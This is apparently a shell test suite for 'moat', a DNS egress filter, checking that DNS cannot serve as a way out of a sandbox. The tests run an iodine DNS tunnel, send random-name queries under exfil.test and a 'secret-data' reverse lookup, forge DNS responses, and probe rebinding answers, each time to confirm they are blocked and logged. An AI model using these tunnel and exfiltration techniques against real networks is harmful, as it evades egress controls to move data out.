# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
# test_dns_battery.sh - DNS as a way out: other resolvers and ports,
# encrypted DNS, tunnels, reverse lookups as a channel, forged answers,
# and allowed names that point back at the runner.

# A resolver that speaks DNS over TLS (853) and over HTTPS (8443; the lab's
# web server has 443) on 203.0.113.53, answering from the lab's NSD.
unbound_up() {
	local d=$LAB_DIR/unbound
	mkdir -p "$d"
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 \
		-nodes -subj /CN=resolver.lab.test -days 1 -keyout "$d/key.pem" \
		-out "$d/cert.pem" >/dev/null 2>&1 || return 1
	cat >"$d/unbound.conf" <<EOF
server:
	interface: 203.0.113.53@853
	interface: 203.0.113.53@8443
	tls-port: 853
	https-port: 8443
	tls-service-key: "$d/key.pem"
	tls-service-pem: "$d/cert.pem"
	access-control: 0.0.0.0/0 allow
	do-not-query-localhost: no
	do-ip6: no
	username: ""
	chroot: ""
	directory: "$d"
	pidfile: "$d/unbound.pid"
	use-syslog: no
	logfile: "$d/unbound.log"
	module-config: "iterator"
	# unbound answers the special-use name test. itself (RFC 6761).
	local-zone: "test." nodefault
stub-zone:
	name: "lab.test"
	stub-addr: 192.0.2.53
EOF
	nsenter --net=/run/netns/"$NET_NS" unbound -d -c "$d/unbound.conf" \
		>"$d/stdout" 2>&1 &
	LAB_PIDS+=($!)
	wait_for 50 in_runner dig +tls +time=1 +tries=1 @203.0.113.53 \
		allowed.lab.test
}

test_battery_resolver_on_another_port() {
	expect_eq "$(dig_status -p 5353 @203.0.113.53 allowed.lab.test)" \
		NOERROR "without moat, a resolver on port 5353 answers" ||
		return 1
	moat_start --allow allowed.lab.test || return 1
	expect_eq "$(dig_status -p 5353 @203.0.113.53 allowed.lab.test)" "" \
		"no answer through moat" || return 1
	expect_eq "$(dig_status +tcp -p 5353 @203.0.113.53 allowed.lab.test)" \
		"" "nor over TCP" || return 1
	expect_event "blocked, with its process" '"event":"connect"' \
		'"action":"blocked"' '"dst_ip":"203.0.113.53"' \
		'"dst_port":5353' '"proto":"udp"' '"comm":"dig"' || return 1
}

test_battery_dns_over_tls_and_https() {
	unbound_up || { echo "    unbound did not start" >&2; return 1; }
	expect_eq "$(dig_status +https -p 8443 @203.0.113.53 allowed.lab.test)" \
		NOERROR "without moat, DNS over HTTPS answers" || return 1
	moat_start --allow allowed.lab.test || return 1
	expect_eq "$(dig_status +tls @203.0.113.53 allowed.lab.test)" "" \
		"DNS over TLS gets nowhere" || return 1
	expect_eq "$(dig_status +https -p 8443 @203.0.113.53 allowed.lab.test)" \
		"" "DNS over HTTPS gets nowhere" || return 1
	expect_event "DoT blocked" '"event":"connect"' '"action":"blocked"' \
		'"dst_ip":"203.0.113.53"' '"dst_port":853' '"proto":"tcp"' \
		'"comm":"dig"' || return 1
	expect_event "DoH blocked" '"action":"blocked"' \
		'"dst_ip":"203.0.113.53"' '"dst_port":8443' || return 1
}

# iodine carries IP over DNS queries for names under its own zone.
test_battery_dns_tunnel() {
	in_net ip addr add 203.0.113.60/32 dev lo
	nsenter --net=/run/netns/"$NET_NS" iodined -f -c -l 203.0.113.60 \
		-P moatlab 203.0.113.225/27 t.tunnel.test \
		>"$LAB_DIR/iodined.out" 2>&1 &
	LAB_PIDS+=($!)
	wait_for 50 grep -q "Listening" "$LAB_DIR/iodined.out" ||
		{ echo "    iodined did not start" >&2; return 1; }
	expect_match "$(iodine_try)" "Connection setup complete" \
		"without moat, the tunnel comes up" || return 1
	moat_start --allow allowed.lab.test || return 1
	expect_no_match "$(iodine_try)" "Connection setup complete" \
		"under moat it does not" || return 1
	expect_event "its queries are refused, with the process" \
		'"event":"dns"' '"action":"blocked"' '\.t\.tunnel\.test"' \
		'"comm":"iodine"' || return 1
	expect_no_match "$(audit_events dns)" '"action":"allowed"' \
		"no tunnel query went upstream" || return 1
	expect "long random names under another zone are refused too" \
		dig_refused "$(head -c 45 /dev/urandom | base32 | tr -d '=' |
			cut -c1-63).exfil.test" || return 1
}

# Run iodine until its tunnel is up or 15 seconds pass; print its output.
iodine_try() {
	client timeout 15 iodine -f -r -P moatlab 203.0.113.60 \
		t.tunnel.test >"$LAB_DIR/iodine.out" 2>&1 &
	wait_for 150 grep -q "Connection setup complete" "$LAB_DIR/iodine.out"
	pkill -f "iodine -f -r -P moatlab" 2>/dev/null
	{ wait; } 2>/dev/null
	in_runner ip link del dns0 2>/dev/null
	cat "$LAB_DIR/iodine.out"
}

dig_refused() {
	test "$(dig_status "$1")" = REFUSED
}

# A reverse lookup carries a name of the asker's choosing to whoever runs
# the reverse zone: only addresses the job may reach anyway are looked up.
test_battery_reverse_lookups_as_a_channel() {
	expect_eq "$(dig_status -x 203.0.113.7)" NOERROR \
		"without moat, the reverse zone answers" || return 1
	moat_start --allow allowed.lab.test --allow-cidr 203.0.113.7 || return 1
	expect_eq "$(dig_status -x 198.51.100.20)" REFUSED \
		"an address nothing allows" || return 1
	expect_eq "$(dig_status -x 2001:db8:1::20)" REFUSED "nor IPv6" ||
		return 1
	expect_eq "$(dig_status PTR secret-data.100.51.198.in-addr.arpa)" \
		REFUSED "a name that is no address" || return 1
	expect_eq "$(dig_status -x 203.0.113.7)" NOERROR \
		"an address a CIDR rule allows" || return 1
	expect_eq "$(dig_status allowed.lab.test)" NOERROR "resolve" || return 1
	expect_eq "$(dig_status -x 198.51.100.10)" NOERROR \
		"an address an allowed answer named" || return 1
	expect_event "refused, and why" '"event":"dns"' '"action":"blocked"' \
		'"qname":"20.100.51.198.in-addr.arpa"' '"comm":"dig"' || return 1
	expect_event "allowed as the reverse of an allowed address" \
		'"qname":"10.100.51.198.in-addr.arpa"' '"action":"allowed"' \
		'"reason":"reverse_of_allowed"' || return 1
}

# Replies from the wrong address, with the wrong id or question, or that
# are no replies, all arrive before the real one; none may teach moat an
# address (they name 203.0.113.7).
test_battery_forged_replies() {
	fake_upstream_up || return 1
	moat_start_fake --allow lab.test || return 1
	expect_match "$(client dig +short +time=3 +tries=1 forge.lab.test)" \
		"^198\.51\.100\.10$" "the real answer, alone" || return 1
	expect "the real address connects" http_ok http://198.51.100.10/ ||
		return 1
	expect "the forged one stays blocked" http_blocked http://203.0.113.7/ ||
		return 1
	expect_no_match "$(audit_events dns)" "203\.0\.113\.7" \
		"no forged address in the log" || return 1
	moat_stop TERM || return 1
	expect_event "mismatched replies counted" '"event":"stats"' \
		'"dns_mismatched_replies":[1-9]' '"addresses_learned":1,' ||
		return 1
}

# A client that sends the proxy a response, or garbage, gets nowhere.
test_battery_bogus_messages_to_the_proxy() {
	moat_start --allow allowed.lab.test || return 1
	client python3 -c '
import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
# A response (QR set) saying allowed.lab.test is 203.0.113.7.
q = b"\x07allowed\x03lab\x04test\x00\x00\x01\x00\x01"
s.sendto(bytes.fromhex("123481800001000100000000") + q +
         bytes.fromhex("c00c000100010000003c0004") +
         socket.inet_aton("203.0.113.7"), ("192.0.2.53", 53))
for n in (0, 1, 11, 12, 300, 4000):
    s.sendto(os.urandom(n), ("192.0.2.53", 53))
' || return 1
	expect "the forged address stays blocked" http_blocked \
		http://203.0.113.7/ || return 1
	expect_eq "$(dig_status allowed.lab.test)" NOERROR "still answers" ||
		return 1
}

# DNS rebinding: an allowed name that answers with a loopback, link-local
# or metadata address is refused, unless a CIDR rule allows the address.
test_battery_rebinding_answers_refused() {
	moat_start --allow lab.test --allow-cidr 127.0.0.1 || return 1
	expect_eq "$(dig_status meta.lab.test)" REFUSED "metadata address" ||
		return 1
	expect_match "$(client dig +time=2 +tries=1 meta.lab.test)" \
		"EDE: 17 \(Filtered\)" "says why" || return 1
	expect_eq "$(dig_status rebind6.lab.test AAAA)" REFUSED "::1" ||
		return 1
	expect_eq "$(dig_status rebind.lab.test)" NOERROR \
		"127.0.0.1, which a CIDR rule allows" || return 1
	expect_event "logged as rebinding" '"event":"dns"' \
		'"qname":"meta.lab.test"' '"action":"blocked"' \
		'"reason":"rebinding"' '"comm":"dig"' || return 1
}
